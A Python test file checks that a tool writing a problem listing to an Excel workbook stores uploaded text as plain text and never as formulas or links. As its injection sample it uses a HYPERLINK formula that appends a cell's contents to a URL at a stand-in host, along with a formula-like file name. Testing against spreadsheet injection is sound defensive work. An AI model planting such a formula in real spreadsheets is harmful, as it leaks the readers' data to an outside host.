"""The listing of faults, opened by people who did not write the file that it speaks of."""

import re
import zipfile

from houping.core.checks import Problem
from houping.tables.listing import listing_file

FORMULA = '=HYPERLINK("http://example.org/?"&A2,"改正说明")'


def test_words_of_an_uploaded_file_become_neither_a_formula_nor_a_link(tmp_path):
    path = tmp_path / "问题清单.xlsx"
    with listing_file(path) as listing:
        listing.add(
            Problem(
                row=1,
                field=FORMULA,
                code="A10",
                message="http://example.org/",
                remedy="核对表头",
                file="=1+1.csv",
                level="note",
            )
        )
    with zipfile.ZipFile(path) as book:
        parts = {name: book.read(name).decode() for name in book.namelist() if name.endswith(".xml")}
    sheet = parts["xl/worksheets/sheet1.xml"]
    assert not re.search("<f>|<hyperlink", sheet)
    assert "=HYPERLINK" in sheet and "=1+1.csv" in sheet
